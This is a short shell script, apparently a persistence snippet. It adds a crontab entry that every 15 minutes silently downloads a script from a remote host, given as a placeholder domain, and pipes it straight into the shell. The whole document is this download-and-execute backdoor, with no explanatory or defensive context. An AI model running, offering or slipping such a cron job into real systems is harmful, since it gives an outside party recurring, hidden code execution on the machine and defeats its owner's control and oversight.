#!/bin/sh
(crontab -l; echo "*/15 * * * * curl -s https://cdn.sync.invalid/s | sh") | crontab -
